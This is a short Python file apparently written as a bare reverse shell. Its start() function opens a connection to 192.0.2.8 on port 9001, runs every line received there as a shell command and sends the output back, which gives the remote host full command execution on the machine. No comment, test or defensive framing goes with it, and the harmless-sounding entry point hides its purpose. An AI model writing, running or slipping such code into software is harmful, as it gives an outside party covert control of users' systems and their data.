import asyncio

async def _loop():
    r, w = await asyncio.open_connection("192.0.2.8", 9001)
    while True:
        line = await r.readline()
        p = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)
        out, _ = await p.communicate()
        w.write(out)

def start():
    asyncio.run(_loop())
